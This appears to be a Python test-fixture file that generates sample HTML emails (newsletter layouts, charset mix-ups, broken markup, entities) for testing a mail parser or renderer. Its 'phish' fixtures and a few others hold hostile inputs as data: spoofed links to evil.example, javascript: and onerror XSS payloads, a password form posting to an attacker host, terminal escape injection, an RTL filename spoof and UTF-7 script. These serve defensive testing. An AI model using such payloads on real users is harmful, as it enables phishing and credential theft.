"""HTML as newsletters, shops and cheats write it, and HTML that is broken."""
from .letters import html, letter, multi, part

HIDDEN = ('<div style="display:none;font-size:1px;max-height:0">Preview text for '
          'lists&zwnj;&nbsp;&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div>')
LAYOUT = (
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" "http://www.w3'
    '.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><head><meta http-equiv="Con'
    'tent-Type" content="text/html; charset=utf-8"/><title>Offers</title><style ty'
    'pe="text/css">@media only screen and (max-width:600px){.col{width:100%!import'
    'ant}} a > b {color:red}</style></head><body bgcolor="#fff">' + HIDDEN +
    '<table width="100%"><tr><td align="center"><table width="600"><tr><td><a href='
    '"https://shop.example/?utm_source=mail&amp;utm_id=1"><img src="logo.png" alt='
    '"The Shop" width="120"></a></td></tr><tr><td><h1>Winter sale</h1><p>Everything'
    ' <b>must</b> go &ndash; up to 50&nbsp;%&nbsp;off.</p></td></tr><tr><td><table>'
    '<tr><td><img src="1.jpg" alt="Lamp"></td><td>Lamp<br>&euro;&nbsp;20</td></tr><tr>'
    '<td><img src="2.jpg" alt="Chair"></td><td>Chair<br>&euro;&nbsp;40</td></tr>'
    '</table></td></tr><tr><td><a href="https://shop.example/buy" style="display:'
    'inline-block;padding:10px">BUY NOW</a></td></tr><tr><td style="font-size:10px">'
    'You get this as a customer. <a href="https://shop.example/unsubscribe?u=1">Uns'
    'ubscribe</a> | <a href="https://shop.example/?utm_source=mail&utm_id=1">Web</a>'
    '</td></tr></table></td></tr></table><img src="https://t.example/o.gif" width="1"'
    ' height="1" alt="pixel"></body></html>')

html("news-layout", LAYOUT)
html("news-base64", LAYOUT, cte="base64")
html("news-8bit", "<p>Grüße &amp; Küsse</p>", cte="8bit")
html("news-two-columns", "<table><tr><td valign=top><h2>Left</h2><p>First text of "
     "the left column.</p><p>Second.</p></td><td><h2>Right</h2><p>Text of the right "
     "column.</p></td></tr></table>")
html("news-data-table", "<table border=1><thead><tr><th>Item</th><th>Count</th><th>"
     "Price</th></tr></thead><tbody><tr><td>Nails</td><td align=right>100</td><td>€ "
     "2</td></tr><tr><td>Glue</td><td></td><td>€ 5</td></tr></tbody><tfoot><tr><td "
     "colspan=2>Sum</td><td>€ 7</td></tr></tfoot></table>")
html("news-old-table", "<TABLE><TR><TD>A<TD>B<TR><TD>C<TD>D</TABLE>after")
html("news-lists", "<ul><li>one<li>two<ul><li>inner</ul><li>three</ul><ol start=3><li>"
     "three<li>four<ol><li>x</ol></ol><dl><dt>Term<dd>What it is</dl><ul></ul>end")
html("news-headings", "<h1>One</h1><h2>Two</h2>text<h3>Three</h3><hr>end")
html("news-br", "a<br>b<br/>c<br />d<br><br>e<br><br><br><br>f")
html("news-pre", "<p>Log:</p><pre>line 1\n  line 2\n\ttab\n\n\nline 6 &lt;x&gt;</pre>end")
html("news-quotes", "Hi<blockquote>one<blockquote>two<blockquote>three</blockquote>"
     "</blockquote>one again</blockquote>end")
html("news-long-lines", "<p>" + "A sentence that goes on and on. " * 12 + "</p><p>" +
     "x" * 200 + "</p><p>https://example.com/" + "a" * 150 + "</p>")
html("news-chinese", "<p>" + "你好世界，这是一封中文邮件。" * 8 + "</p><p>" +
     "こんにちは、世界。" * 8 + "</p>")
html("news-gb2312", "<html><head><meta charset=gb2312></head><p>促销：全场五折！</p>",
     charset="gb2312")
letter("news-meta-charset", part("<meta charset=windows-1251><p>Привет</p>".encode(
    "cp1251"), "text/html", "8bit"))
letter("news-meta-http", part('<meta http-equiv=content-type content="text/html; char'
    'set=iso-8859-2"><p>Příliš</p>'.encode("iso8859-2"), "text/html", "8bit"))
letter("news-meta-wrong", part('<meta charset=utf-16><p>Grüße</p>', "text/html", "8bit"))
letter("news-meta-lies", part('<meta charset=koi8-r><p>Grüße</p>',
                              "text/html; charset=utf-8", "8bit"))
html("news-entities", "&lt;b&gt; &amp; &quot;q&quot; &apos; &copy; &reg; &trade; &euro; "
     "&pound; &yen; &sect; &para; &middot; &bull; &hellip; &ndash; &mdash; &lsquo;a"
     "&rsquo; &ldquo;b&rdquo; &laquo;c&raquo; &auml;&ouml;&uuml;&szlig; &eacute;"
     "&egrave;&ccedil;&ntilde; &alpha;&beta;&Omega; &rarr; &larr; &hearts; &#8364; &#x20"
     "AC; &#128; &#150; &nbsp;x&nbsp; &shy; &nosuch; &amp &lt &#xD800; &#0; AT&T")
html("news-controls", "a&#27;[2Jb&#7;c&#8;&#8;d&#155;31m&#13;e&#127;f&#8238;gnp.exe")
html("news-links", '<p><a href="https://a.example/">https://a.example</a> <a href="http'
     's://a.example/">text</a> <a href="https://b.example/x">other</a> <a href="https:'
     '//a.example/">again</a> <a href="mailto:x@y.z">x@y.z</a> <a href="mailto:x@y.z?s'
     'ubject=Hi">write</a> <a href="tel:+49123">call</a> <a href="#top">top</a> <a hre'
     'f="/rel">relative</a> <a href="">none</a></p>')
html("news-many-links", "".join(f'<p><a href="https://a.example/{i}">link {i}</a></p>'
                                for i in range(1, 31)))
html("phish-link", '<p>Dear customer, <a href="http://192.0.2.7/~x/bank">https://www.bank'
     '.example/login</a></p><p><a href="https://evil.example">www.paypal.com</a></p>')
html("phish-userinfo", '<a href="https://www.bank.example@evil.example/">Log in</a>')
html("phish-script", '<a href="javascript:alert(1)">a</a><a href="JaVa&#115;cript:x">b</a'
     '><a href=" java\nscript:x">c</a><a href="data:text/html,x">d</a><a href="vbscript:'
     'x">e</a><a href="file:///etc/passwd">f</a><script>document.write("g")</script><img '
     'src=x onerror="alert(1)">')
html("phish-hidden", '<p>Real<span style="display:none"> hidden one</span><span style="vi'
     'sibility: hidden"> two</span><span hidden> three</span> text</p>')
html("phish-form", '<form action="http://evil.example"><label>Password: <input type=passwo'
     'rd value=x></label><button>Send</button></form>')
html("phish-escape-link", '<a href="http://a.example/&#27;]0;x&#7;&#10;[2] http://good.exa'
     'mple">x</a>')
html("broken-unclosed", "<p>One <b>bold <i>both<p>Two <table><tr><td>cell <ul><li>item")
html("broken-crossed", "<b>a<i>b</b>c</i></p></div></span></table>d")
html("broken-tag-end", "text <b")
html("broken-attribute", 'a<a href="https://x.example/>b</a> c " d>e</a> f')
html("broken-comment", "a<!-- no end <p>gone</p>")
html("broken-comments", "a<!---->b<!-- > -->c<!-->d<!--->e<!-- -- -->f<![CDATA[x]]>g<?php "
     "echo 1 ?>h<!DOCTYPE x>i")
html("broken-lt", "if a < b and b > c then <3 <- &lt;- 5<6")
html("broken-style", "<style>p { color: red } <p>gone</p>")
html("broken-head", "<head><title>x</title><p>No end of the head.")
html("broken-nothing", "<html><body><img src=x><table><tr><td></td></tr></table></body>")
html("broken-empty", "")
html("broken-plain-in-html", "Just text,\nin two lines & nothing else.\n")
html("broken-deep", "<div><blockquote><ul><li>" * 300 + "deep" + "</li></ul>" * 300)
html("broken-attributes-many", "<p " + " ".join(f'a{i}="{i}"' for i in range(300)) +
     ">text</p>")
html("broken-uppercase", "<HTML><BODY><P ALIGN=CENTER>Loud<BR>text</P></BODY></HTML>")
html("broken-xhtml", '<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><bo'
     'dy><p>x<br/>y</p><hr/></body></html>')
html("broken-mso", "<!--[if mso]><p>only Outlook</p><![endif]--><!--[if !mso]><!--><p>all "
     "others</p><!--<![endif]--><![if !vml]>shown<![endif]><o:p>&nbsp;</o:p>")
html("broken-double", "<html><body>one</body></html><html><body>two</body></html>")
letter("broken-qp-html", b"Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding:"
       b" quoted-printable\n\n<p>soft =\nline, =E2=82=AC, =3Cb=3E, =ZZ, =\n</p>= \nend=")
letter("broken-html-as-plain", part("<p>HTML that says it is plain</p>\n"))
letter("broken-plain-as-html", part("Line one\nLine two\n  indented\n", "text/html"))
letter("news-utf7", part("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "text/html; "
                         "charset=utf-7"))
letter("news-alternative-empty", multi("alternative", part("\n"), part(
    "<p>Only the HTML has text.</p>", "text/html")))
letter("news-alternative-note", multi("alternative", part(
    "Your mail program cannot show HTML.\n"), part("<p>The text.</p>", "text/html")))
letter("news-html-attached", multi("mixed", part("See the page.\n"), part(
    "<p>a page</p>", "text/html; name=page.html", None, "attachment; filename=page.html")))
letter("news-html-twice", multi("mixed", part("<p>First.</p>", "text/html"), part(
    b"x", "image/png; name=a.png", "base64", "inline"), part("<p>Second.</p>", "text/html")))
letter("news-amp", multi("alternative", part("Plain.\n"), part("<html amp4email></html>",
    "text/x-amp-html"), part("<p>HTML</p>", "text/html")))
html("news-rtl", '<div dir="rtl">שלום <b>עולם</b>, مرحبا</div>')
html("news-emoji", "<p>🎉🎉 Sale 👨‍👩‍👧‍👦 👍🏽 ❤️ 1️⃣</p>" + "<p>" + "😀" * 60 + "</p>")
html("news-soft-hyphens", "<p>Donau&shy;dampf&shy;schiff</p><p>a&#8203;b&#65279;c</p>")
html("news-ruby", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby> <sup>2</sup> H<sub>2"
     "</sub>O <del>old</del> <ins>new</ins> <code>x = 1</code> <q>said</q>")
